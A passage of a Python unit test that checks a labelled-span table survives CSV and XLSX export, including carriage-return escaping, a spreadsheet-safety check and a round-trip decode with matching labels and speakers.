    assert written <= cells  # the CSV holds the text, exactly
    workbook = {cell for line in assert_spreadsheet_safe(to_xlsx_bytes(table)) for cell in line}
    assert written - {"\r=CR"} <= workbook and "_x000D_=CR" in workbook  # XML's escape for a lone CR
    back = decode_table(download)
    assert back.astype(str).values.tolist() == table.astype(str).values.tolist()
    for row in back.itertuples():
        assert FORMULA_TEXT[row.start : row.end] == row.text
    human = back[back["source"] == "human"].set_index("span_id")
    for row in rows.itertuples():
        assert (
            human.loc[row.span_id, "label"] == row.label and human.loc[row.span_id, "speaker"] == row.speaker
        )
